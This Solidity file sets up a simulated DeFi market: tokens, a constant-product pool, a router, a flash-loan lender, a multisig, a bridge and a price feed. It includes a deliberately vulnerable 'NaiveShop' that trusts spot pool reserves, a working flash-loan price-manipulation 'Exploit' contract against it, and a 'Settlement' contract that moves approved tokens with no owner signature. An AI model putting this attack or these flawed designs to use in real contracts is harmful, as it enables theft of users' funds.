// SPDX-License-Identifier: CC0-1.0
// The contracts of the rehearsal's market. Each shows one way in which one asset becomes another, or seems to.
pragma solidity ^0.8.20;

interface IToken {
    function balanceOf(address) external view returns (uint256);
    function transfer(address, uint256) external;
    function transferFrom(address, address, uint256) external;
    function approve(address, uint256) external;
}

/// A token with nothing special about it: the first supply is told by a Transfer.
contract Coin {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply;
    uint8 public constant decimals = 18;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 supply) {
        make(msg.sender, supply);
    }

    function make(address to, uint256 value) internal {
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function end(address from, uint256 value) internal {
        balanceOf[from] -= value;
        totalSupply -= value;
        emit Transfer(from, address(0), value);
    }

    function approve(address spender, uint256 value) external {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
    }

    function transfer(address to, uint256 value) external {
        move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external {
        uint256 allowed = allowance[from][msg.sender];
        require(allowed >= value, "allowance");
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        move(from, to, value);
    }

    function move(address from, address to, uint256 value) internal {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Ether as a token, one for one. Neither way has a Transfer.
contract Wrapped {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint8 public constant decimals = 18;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Deposit(address indexed to, uint256 value);
    event Withdrawal(address indexed from, uint256 value);

    receive() external payable {
        deposit();
    }

    function totalSupply() external view returns (uint256) {
        return address(this).balance;
    }

    function deposit() public payable {
        balanceOf[msg.sender] += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function withdraw(uint256 value) external {
        balanceOf[msg.sender] -= value;
        emit Withdrawal(msg.sender, value);
        (bool ok, ) = msg.sender.call{value: value}("");
        require(ok, "send");
    }

    function approve(address spender, uint256 value) external {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
    }

    function transfer(address to, uint256 value) external {
        move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external {
        uint256 allowed = allowance[from][msg.sender];
        require(allowed >= value, "allowance");
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        move(from, to, value);
    }

    function move(address from, address to, uint256 value) internal {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// A pool of two tokens whose product never falls; it keeps three thousandths. Its shares are a token: the contract itself.
contract Pair is Coin {
    IToken public immutable token0;
    IToken public immutable token1;
    uint112 public reserve0;
    uint112 public reserve1;

    event Mint(address indexed sender, uint256 amount0, uint256 amount1);
    event Burn(address indexed sender, uint256 amount0, uint256 amount1, address indexed to);
    event Swap(address indexed sender, uint256 amount0In, uint256 amount1In, uint256 amount0Out, uint256 amount1Out, address indexed to);
    event Sync(uint112 reserve0, uint112 reserve1);

    constructor(IToken a, IToken b) Coin(0) {
        token0 = a;
        token1 = b;
    }

    /// Takes both tokens of whoever calls, and gives as many shares as the first amount is large: enough for a rehearsal.
    function join(uint256 amount0, uint256 amount1) external {
        token0.transferFrom(msg.sender, address(this), amount0);
        token1.transferFrom(msg.sender, address(this), amount1);
        uint256 shares = totalSupply == 0 ? amount0 : (amount0 * totalSupply) / reserve0;
        make(msg.sender, shares);
        sync();
        emit Mint(msg.sender, amount0, amount1);
    }

    function leave(uint256 shares) external {
        uint256 amount0 = (shares * reserve0) / totalSupply;
        uint256 amount1 = (shares * reserve1) / totalSupply;
        end(msg.sender, shares);
        token0.transfer(msg.sender, amount0);
        token1.transfer(msg.sender, amount1);
        sync();
        emit Burn(msg.sender, amount0, amount1, msg.sender);
    }

    /// What was paid in before is what is given for: as pools of this kind do it.
    function swap(uint256 out0, uint256 out1, address to) external {
        if (out0 > 0) token0.transfer(to, out0);
        if (out1 > 0) token1.transfer(to, out1);
        uint256 held0 = token0.balanceOf(address(this));
        uint256 held1 = token1.balanceOf(address(this));
        uint256 in0 = held0 + out0 - reserve0;
        uint256 in1 = held1 + out1 - reserve1;
        uint256 after0 = held0 * 1000 - in0 * 3;
        uint256 after1 = held1 * 1000 - in1 * 3;
        require(after0 * after1 >= uint256(reserve0) * reserve1 * 1000000, "product");
        sync();
        emit Swap(msg.sender, in0, in1, out0, out1, to);
    }

    function quote(IToken given, uint256 amount) external view returns (uint256) {
        (uint256 here, uint256 there) = given == token0 ? (reserve0, reserve1) : (reserve1, reserve0);
        return (amount * 997 * there) / (here * 1000 + amount * 997);
    }

    function sync() internal {
        reserve0 = uint112(token0.balanceOf(address(this)));
        reserve1 = uint112(token1.balanceOf(address(this)));
        emit Sync(reserve0, reserve1);
    }
}

/// Takes people through pools; nothing stays with it.
contract SwapRouter {
    Wrapped public immutable weth;

    constructor(Wrapped w) {
        weth = w;
    }

    receive() external payable {}

    /// Ether, through any number of pools, into a token.
    function fromEther(Pair[] calldata pools) external payable {
        weth.deposit{value: msg.value}();
        weth.transfer(address(pools[0]), msg.value);
        along(pools, IToken(address(weth)), msg.value, msg.sender);
    }

    /// A token, through any number of pools, into ether.
    function toEther(IToken given, uint256 amount, Pair[] calldata pools) external {
        given.transferFrom(msg.sender, address(pools[0]), amount);
        uint256 got = along(pools, given, amount, address(this));
        weth.withdraw(got);
        (bool ok, ) = msg.sender.call{value: got}("");
        require(ok, "send");
    }

    /// A token, through any number of pools, into another token, for whomever the caller names.
    function swap(IToken given, uint256 amount, Pair[] calldata pools, address to) external {
        given.transferFrom(msg.sender, address(pools[0]), amount);
        along(pools, given, amount, to);
    }

    function along(Pair[] calldata pools, IToken given, uint256 amount, address last) internal returns (uint256) {
        for (uint256 i = 0; i < pools.length; i++) {
            Pair pool = pools[i];
            bool first = given == pool.token0();
            amount = pool.quote(given, amount);
            pool.swap(first ? 0 : amount, first ? amount : 0, i + 1 < pools.length ? address(pools[i + 1]) : last);
            given = first ? pool.token1() : pool.token0();
        }
        return amount;
    }
}

/// Somebody else fills an order: the owner signs nothing, and no pool is asked.
contract Settlement {
    event Trade(address indexed owner, address sellToken, address buyToken, uint256 sellAmount, uint256 buyAmount);

    function fill(address owner, IToken sold, uint256 sellAmount, IToken bought, uint256 buyAmount) external {
        sold.transferFrom(owner, msg.sender, sellAmount);
        bought.transferFrom(msg.sender, owner, buyAmount);
        emit Trade(owner, address(sold), address(bought), sellAmount, buyAmount);
    }
}

interface IBorrower {
    function lent(IToken token, uint256 amount, uint256 fee) external;
}

/// Lends dollars against wrapped ether, and anything it has within one transaction.
contract Lender {
    IToken public immutable collateral;
    IToken public immutable money;
    mapping(address => uint256) public pledged;
    mapping(address => uint256) public owed;
    uint256 public total;

    event Borrow(address borrower, uint256 borrowAmount, uint256 accountBorrows, uint256 totalBorrows);
    event RepayBorrow(address payer, address borrower, uint256 repayAmount, uint256 accountBorrows, uint256 totalBorrows);

    constructor(IToken c, IToken m) {
        collateral = c;
        money = m;
    }

    function borrow(uint256 pledge, uint256 amount) external {
        collateral.transferFrom(msg.sender, address(this), pledge);
        pledged[msg.sender] += pledge;
        owed[msg.sender] += amount;
        total += amount;
        money.transfer(msg.sender, amount);
        emit Borrow(msg.sender, amount, owed[msg.sender], total);
    }

    function repay() external {
        uint256 amount = owed[msg.sender];
        uint256 pledge = pledged[msg.sender];
        (owed[msg.sender], pledged[msg.sender], total) = (0, 0, total - amount);
        money.transferFrom(msg.sender, address(this), amount);
        collateral.transfer(msg.sender, pledge);
        emit RepayBorrow(msg.sender, msg.sender, amount, 0, total);
    }

    function flash(IToken token, uint256 amount) external {
        uint256 before = token.balanceOf(address(this));
        uint256 fee = amount / 1000;
        token.transfer(msg.sender, amount);
        IBorrower(msg.sender).lent(token, amount, fee);
        require(token.balanceOf(address(this)) >= before + fee, "not paid back");
    }
}

/// Buys wrapped ether at whatever one pool says this instant: what a flash loan is made for.
contract NaiveShop {
    Pair public immutable pool;
    IToken public immutable weth;
    IToken public immutable dollar;

    constructor(Pair p, IToken w, IToken d) {
        pool = p;
        weth = w;
        dollar = d;
    }

    function buy(uint256 amount) external {
        (uint256 w, uint256 d) = weth == pool.token0() ? (pool.reserve0(), pool.reserve1()) : (pool.reserve1(), pool.reserve0());
        weth.transferFrom(msg.sender, address(this), amount);
        dollar.transfer(msg.sender, (amount * d) / w);
    }
}

/// Borrows dollars for one transaction, makes ether dear, sells some to the shop, goes back, repays, and gives what is left to its owner.
contract Exploit is IBorrower {
    address public immutable owner;
    Pair public immutable pool;
    NaiveShop public immutable shop;
    IToken public immutable weth;
    IToken public immutable dollar;
    Lender public immutable lender;

    constructor(Pair p, NaiveShop s, Lender l) {
        owner = msg.sender;
        pool = p;
        shop = s;
        lender = l;
        weth = s.weth();
        dollar = s.dollar();
    }

    /// `put` of the owner's own wrapped ether is sold to the shop: what is gained looks like its price.
    function run(uint256 loan, uint256 put) external {
        require(msg.sender == owner, "owner");
        weth.transferFrom(owner, address(this), put);
        lender.flash(dollar, loan);
        dollar.transfer(owner, dollar.balanceOf(address(this)));
    }

    function lent(IToken, uint256 amount, uint256 fee) external {
        uint256 put = weth.balanceOf(address(this));
        uint256 got = through(dollar, amount);
        weth.approve(address(shop), put);
        shop.buy(put);
        through(weth, got);
        dollar.transfer(address(lender), amount + fee);
    }

    function through(IToken given, uint256 amount) internal returns (uint256 got) {
        got = pool.quote(given, amount);
        given.transfer(address(pool), amount);
        bool first = given == pool.token0();
        pool.swap(first ? 0 : got, first ? got : 0, address(this));
    }
}

/// A wallet of three, of whom two must agree; anybody may carry out what they agreed to.
contract Multisig {
    mapping(address => bool) public owners;
    mapping(bytes32 => mapping(address => bool)) public agreed;
    mapping(bytes32 => uint256) public count;
    uint256 public nonce;

    event ApproveHash(bytes32 indexed approvedHash, address indexed owner);
    event ExecutionSuccess(bytes32 txHash, uint256 payment);

    constructor(address a, address b, address c) {
        (owners[a], owners[b], owners[c]) = (true, true, true);
    }

    receive() external payable {}

    function approveHash(bytes32 which) external {
        require(owners[msg.sender] && !agreed[which][msg.sender], "owner");
        agreed[which][msg.sender] = true;
        count[which]++;
        emit ApproveHash(which, msg.sender);
    }

    function execute(address to, uint256 value, bytes calldata content) external {
        bytes32 which = keccak256(abi.encode(to, value, keccak256(content), nonce++));
        require(count[which] >= 2, "agreed");
        (bool ok, ) = to.call{value: value}(content);
        require(ok, "call");
        emit ExecutionSuccess(which, 0);
    }
}

/// Code that an account lends itself (EIP-7702): it, or whoever it named, has it call others.
contract Agent {
    address public immutable sponsor;

    constructor(address s) {
        sponsor = s;
    }

    receive() external payable {}

    function execute(address to, uint256 value, bytes calldata content) external {
        require(msg.sender == address(this) || msg.sender == sponsor, "sponsor");
        (bool ok, ) = to.call{value: value}(content);
        require(ok, "call");
    }
}

/// Locks a token here, and says to whom another chain is to pay out.
contract Bridge {
    uint32 public deposits;

    event V3FundsDeposited(
        address inputToken,
        address outputToken,
        uint256 inputAmount,
        uint256 outputAmount,
        uint256 indexed destinationChainId,
        uint32 indexed depositId,
        uint32 quoteTimestamp,
        uint32 fillDeadline,
        uint32 exclusivityDeadline,
        address indexed depositor,
        address recipient,
        address exclusiveRelayer,
        bytes message
    );

    function lock(IToken token, uint256 amount, uint256 farChain, address farAddress) external {
        token.transferFrom(msg.sender, address(this), amount);
        uint32 time = uint32(block.timestamp);
        emit V3FundsDeposited(
            address(token), address(0), amount, amount - amount / 1000, farChain, ++deposits,
            time, time + 7200, 0, msg.sender, farAddress, address(0), ""
        );
    }
}

/// Sells pictures, each of which there is one.
contract Gallery {
    mapping(uint256 => address) public ownerOf;
    uint256 public sold;

    event Transfer(address indexed from, address indexed to, uint256 indexed tokenId);

    function buy() external payable {
        uint256 picture = ++sold;
        ownerOf[picture] = msg.sender;
        emit Transfer(address(0), msg.sender, picture);
    }
}

/// Exchanges several tokens at once, out of what it holds, at what its keeper offered: no pool says what that was worth.
contract Desk {
    address public immutable keeper;
    mapping(bytes32 => bool) public offered;

    constructor() {
        keeper = msg.sender;
    }

    function offer(bytes32 which) external {
        require(msg.sender == keeper, "keeper");
        offered[which] = true;
    }

    function exchange(IToken[] calldata given, uint256[] calldata amounts, IToken[] calldata got, uint256[] calldata outs) external {
        bytes32 which = keccak256(abi.encodePacked(given, amounts, got, outs));
        require(offered[which], "offered");
        offered[which] = false;
        for (uint256 i = 0; i < given.length; i++) given[i].transferFrom(msg.sender, address(this), amounts[i]);
        for (uint256 i = 0; i < got.length; i++) got[i].transfer(msg.sender, outs[i]);
    }
}

/// Says what one ether is worth, in dollars of eight decimals.
contract Feed {
    uint80 public round;
    address public immutable keeper;

    event AnswerUpdated(int256 indexed current, uint256 indexed roundId, uint256 updatedAt);

    constructor() {
        keeper = msg.sender;
    }

    function post(int256 answer) external {
        require(msg.sender == keeper, "keeper");
        emit AnswerUpdated(answer, ++round, block.timestamp);
    }
}
